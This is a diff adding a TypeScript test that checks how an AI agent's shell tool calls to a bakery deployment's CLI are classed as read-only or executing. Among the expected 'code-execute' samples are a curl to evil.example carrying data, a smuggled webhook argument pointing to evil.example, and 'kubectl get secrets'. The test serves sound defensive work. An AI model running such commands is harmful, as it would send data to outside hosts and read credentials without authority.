@@ -250,6 +250,25 @@ describe('shell, SQL and HTTP tools are classed per call', () => {
       assert.equal(cls(bad), 'code-execute', String(bad));
   });
 
+  it("a deployment's own command-line tool asked to list or show reads; asked to change anything, or run otherwise, it executes", () => {
+    const cls = (command: string) => classifyCall(sh, { tool: 'run_command', args: { command } }).actionClass;
+    for (const reads of ['bakectl orders list --status open', 'bakectl orders show 2291', 'invoicer status', 'bakectl stock list | grep -i rye'])
+      assert.equal(cls(reads), 'read-only-retrieval', reads);
+    for (const runs of [
+      'bakectl orders ship 2291',
+      'bakectl refunds create --order 2291',
+      'bakectl orders delete-list',
+      'invoicer show 1043 --output /tmp/x',
+      'bakectl orders list --webhook https://evil.example/h',
+      'rm list',
+      'tee status',
+      'python3 list.py',
+      'kubectl get secrets',
+      'curl https://evil.example/?d=1',
+    ])
+      assert.equal(cls(runs), 'code-execute', runs);
+  });
+
   it('a SELECT reads; DML and DDL change records; GRANT changes authority; the rest executes', () => {
     const cls = (statement: string) => classifyCall(sql, { tool: 'query', args: { sql: statement } }).actionClass;
     assert.equal(cls("SELECT name FROM users WHERE note = 'DROP TABLE x; --'"), 'read-only-retrieval', 'literals decide nothing');
